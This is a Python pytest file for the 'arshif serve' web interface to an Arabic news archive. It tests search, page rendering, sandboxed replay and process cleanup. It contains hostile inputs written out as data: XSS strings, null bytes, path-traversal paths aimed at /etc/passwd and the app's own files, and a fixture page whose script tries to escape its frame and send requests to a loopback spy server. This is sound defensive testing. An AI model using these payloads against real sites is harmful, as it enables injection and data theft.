"""`arshif serve` (issue 8) over HTTP: every page, hostile input, path traversal, the CLI's search semantics,
and replay isolated from the UI and from the network — proven with a spy server that records every hit."""

from __future__ import annotations

import http.server
import json
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from tests.crawling import ROOT, arshif
from tests.http_client import fetch
from tests.replica_process import free_port

HOSTILE = ['"', "'", "<script>alert(1)</script>", "\x00", "%00", "a" * 10_000, "../../etc/passwd", "«»", "ـ",
           "2021-13-45", "NEAR(a b)", "javascript:alert(1)", "\u202e", "🙂"]


class Served:
    def __init__(self, data: Path):
        self.port = free_port()
        self.process = subprocess.Popen([sys.executable, "-m", "archive", "--data", str(data), "serve", "--port",
                                         str(self.port)], cwd=ROOT, stdout=subprocess.DEVNULL,
                                        stderr=subprocess.PIPE, text=True)
        self.base = f"http://127.0.0.1:{self.port}"
        for _ in range(300):
            if self.process.poll() is not None:
                raise RuntimeError(self.process.stderr.read())
            try:
                fetch(self.base + "/sections")
                return
            except OSError:
                time.sleep(0.1)
        raise RuntimeError("arshif serve did not answer")

    def get(self, path: str, **kw):
        return fetch(self.base + path, **kw)

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(20)


@pytest.fixture(scope="module")
def served(two_editions):
    site, data, _ = two_editions
    server = Served(data)
    yield server
    server.stop()


def test_every_page_answers_in_arabic_right_to_left(served, two_editions):
    site, data, _ = two_editions
    retitled = next(a for a in site.manifest["articles"] if a.get("edited", {}).get("kind") == "title-changed")
    month = retitled["published"][:7]
    section = retitled["section"]
    for path in ("/", "/?q=" + quote("الاسد"), "/browse", f"/browse/{month}", f"/browse/{month}?day=1",
                 "/sections", "/sections?name=" + quote(section), "/article?url=" + quote(retitled["url"]),
                 "/diff?url=" + quote(retitled["url"]), "/changes?since=2000"):
        page = served.get(path)
        assert page.status == 200, path
        assert '<html lang="ar" dir="rtl">' in page.text, path
        assert "default-src 'self'" in page.headers.get("content-security-policy", ""), path


def test_a_phrase_searches_as_in_the_cli(served, two_editions):
    site, data, _ = two_editions
    phrase = '"' + " ".join(site.manifest["articles"][3]["paragraphs"][1].split()[2:5]) + '"'
    cli = json.loads(arshif("--data", str(data), "search", phrase, "--json", "--limit", "50").stdout)
    page = served.get("/?q=" + quote(phrase))
    assert page.status == 200 and cli
    shown = [line.split('"')[0] for line in page.text.split('href="/article?url=')[1:]]
    assert [quote(h["url"], safe="") for h in cli] == shown[:len(cli)]
    assert "<mark>" in page.text


def test_hostile_values_in_every_parameter_never_break_or_inject(served, two_editions):
    site, data, _ = two_editions
    url = site.manifest["articles"][0]["url"]
    pages = {"/": ["q", "lang", "section", "tag", "author", "since", "until", "sort", "all_versions"],
             "/sections": ["name", "page"], "/article": ["url"], "/diff": ["url", "from", "to"],
             "/changes": ["since"], "/browse/2021-09": ["day"]}
    for path, names in pages.items():
        for name in names:
            for value in HOSTILE:
                query = f"{name}={quote(value)}" + (f"&url={quote(url)}" if name != "url" and "url" in names else "")
                page = served.get(f"{path}?{query}")
                assert page.status < 500, (path, name, value[:20], page.status)
                assert "<script>alert(1)</script>" not in page.text, (path, name)
                assert "\x00" not in page.text


@pytest.mark.parametrize("path", ["/static/../app.py", "/static/%2e%2e/app.py", "/static/%2e%2e%2fapp.py",
                                  "/static/..%2f..%2f..%2fpyproject.toml", "/static/%00", "/static/style.css%00",
                                  "/static//etc/passwd", "/web/..%2f..%2farchive.db", "/web/2021id_/../../archive.db",
                                  "/../../archive.db", "/browse/..%2f..", "/static/%5c..%5capp.py"])
def test_path_traversal_gets_4xx_and_never_file_contents(served, path):
    page = served.get(path)
    assert 400 <= page.status < 500, (path, page.status)
    for secret in ("SQLite format", "def create_app", "[project]", "root:x:0:0"):
        assert secret not in page.text


def test_archived_bytes_are_served_sandboxed(served, two_editions):
    site, data, _ = two_editions
    url = site.manifest["articles"][0]["url"]
    raw = served.get(f"/web/2030id_/{url}", headers={"Accept-Encoding": "identity"})
    assert raw.status == 200 and raw.headers["content-security-policy"].startswith("sandbox;")
    assert "default-src 'none'" in raw.headers["content-security-policy"]
    assert raw.headers["x-content-type-options"] == "nosniff"
    frame = served.get(f"/web/2030/{url}")
    assert frame.status == 200 and 'sandbox="allow-scripts"' in frame.text and "allow-same-origin" not in frame.text
    assert served.get("/web/abc/" + url).status == 404
    assert served.get("/web/2030/http://127.0.0.1:9/not-archived").status == 404


def _replay_child(serve_pid: int) -> int:
    """The pid of the pywb (`wayback`) process started by `arshif serve`."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
                cmdline = (entry / "cmdline").read_bytes()
            except (OSError, IndexError, ValueError):
                continue
            if ppid == serve_pid and b"wayback" in cmdline:
                return int(entry.name)
    raise AssertionError("serve started no pywb")


def _gone(pid: int, within: float = 15) -> bool:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        try:
            if Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z":
                return True  # exited; its reaper is init
        except OSError:
            return True
        time.sleep(0.1)
    return False


@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL], ids=["sigterm", "kill-9"])
def test_stopping_serve_stops_its_replay_server(two_editions, how):
    """systemd stops a service with SIGTERM: pywb must not be left behind holding its port (nor after kill -9)."""
    _, data, _ = two_editions
    server = Served(data)
    try:
        replay = _replay_child(server.process.pid)
        cwd = Path(f"/proc/{replay}/cwd").resolve()
        server.process.send_signal(how)
        assert server.process.wait(20) == (0 if how == signal.SIGTERM else -signal.SIGKILL)
        assert _gone(replay), "pywb outlived arshif serve"
        if how == signal.SIGTERM:
            assert not cwd.exists()  # its temporary configuration removed too
    finally:
        if server.process.poll() is None:
            server.process.kill()


# -- isolation, proven with a page that tries to escape ----------------------------------------------------------
class Spy:
    """A loopback server that records every request it receives (it must receive none)."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"spied")

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()


HOSTILE_PAGE = """<!DOCTYPE html><html dir="rtl" lang="ar"><head><meta charset="utf-8">
<title>صفحة تحاول الهروب</title></head><body><h1>صفحة تحاول الهروب</h1>
<img src="http://127.0.0.1:{spy}/img">
<script>
try {{ parent.document.title = "pwned"; }} catch (e) {{}}
try {{ top.document.body.innerHTML = "pwned"; }} catch (e) {{}}
try {{ fetch("http://127.0.0.1:{spy}/fetch", {{mode: "no-cors"}}); }} catch (e) {{}}
try {{ new Image().src = "http://127.0.0.1:{spy}/image"; }} catch (e) {{}}
try {{ navigator.sendBeacon("http://127.0.0.1:{spy}/beacon", "x"); }} catch (e) {{}}
try {{ var x = new XMLHttpRequest(); x.open("GET", "http://127.0.0.1:{spy}/xhr"); x.send(); }} catch (e) {{}}
try {{ document.cookie = "stolen=1"; localStorage.setItem("stolen", "1"); }} catch (e) {{}}
</script></body></html>"""


def write_hostile_archive(data: Path, spy_port: int) -> str:
    """A WARC file holding one hostile page, indexed by `arshif rebuild` (the WARC files alone)."""
    url = "http://news.example/2021/09/14/escape/"
    warc_dir = data / "warc"
    warc_dir.mkdir(parents=True)
    body = HOSTILE_PAGE.format(spy=spy_port).encode()
    with (warc_dir / "arshif-20210914100000-00000.warc.gz").open("wb") as f:
        writer = WARCWriter(f, gzip=True, warc_version="WARC/1.1")
        writer.write_record(writer.create_warcinfo_record("arshif-20210914100000-00000.warc.gz",
                                                          {"software": "test"}))
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                              ("Content-Length", str(len(body)))], protocol="HTTP/1.1")
        from io import BytesIO
        record = writer.create_warc_record(url, "response", payload=BytesIO(body), http_headers=headers,
                                           warc_headers_dict={"WARC-Date": "2021-09-14T10:00:00Z"})
        writer.write_record(record)
    result = arshif("--data", str(data), "rebuild")
    assert result.returncode == 0, result.stderr
    return url


@pytest.fixture(scope="module", name="hostile")
def hostile_archive(tmp_path_factory):
    """(server, spy, URL) over an archive holding one page that tries to escape (the browser tests use it too)."""
    spy = Spy()
    data = tmp_path_factory.mktemp("hostile") / "data"
    url = write_hostile_archive(data, spy.port)
    server = Served(data)
    yield server, spy, url
    server.stop()
    spy.stop()


def test_the_hostile_archive_is_replayable(hostile):
    server, spy, url = hostile
    raw = server.get(f"/web/20210914100000id_/{url}")
    assert raw.status == 200 and "صفحة تحاول الهروب" in raw.text and spy.hits == []


def test_no_view_writes_sql_of_its_own():
    """The web room asks the Store (archive/store/queries.py) and the history and search functions; a view that
    spells SQL would be a second owner of what the Store answers."""
    sql = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE)\b|\.execute(many)?\(")
    spelled = [str(path.relative_to(ROOT)) for path in sorted((ROOT / "archive" / "web").rglob("*.py"))
               if sql.search(path.read_text(encoding="utf-8"))]
    assert spelled == []


def test_a_data_directory_whose_name_looks_like_a_uri_is_served(two_editions, tmp_path):
    """The archive is opened read-only through a file: URI; a '?', '#' or '%' in the directory's name stays part of
    the path (it used to cut the URI short, and every page answered 500)."""
    site, data, _ = two_editions
    odd = tmp_path / "أرشيف #2?%20"
    shutil.copytree(data, odd, ignore=shutil.ignore_patterns("lock"))
    server = Served(odd)
    try:
        listed = server.get("/sections")
        assert listed.status == 200 and 'href="/sections?name=' in listed.text
        assert server.get("/?q=" + quote("الاسد")).status == 200
    finally:
        server.stop()


def test_months_are_named_as_the_site_names_them(served, two_editions):
    """The browse pages name months from the one month table (archive/pages/dates.py), in the site's spelling."""
    site, data, _ = two_editions
    month = site.manifest["articles"][0]["published"][:7]
    names = ("يناير", "فبراير", "مارس", "أبريل", "مايو", "يونيو", "يوليو", "أغسطس", "سبتمبر", "أكتوبر", "نوفمبر",
             "ديسمبر")
    page = served.get(f"/browse/{month}")
    assert page.status == 200 and f"<h1>{names[int(month[5:]) - 1]} {month[:4]}</h1>" in page.text
    listing = served.get("/browse")
    assert f">{names[int(month[5:]) - 1]} {month[:4]}</a>" in listing.text
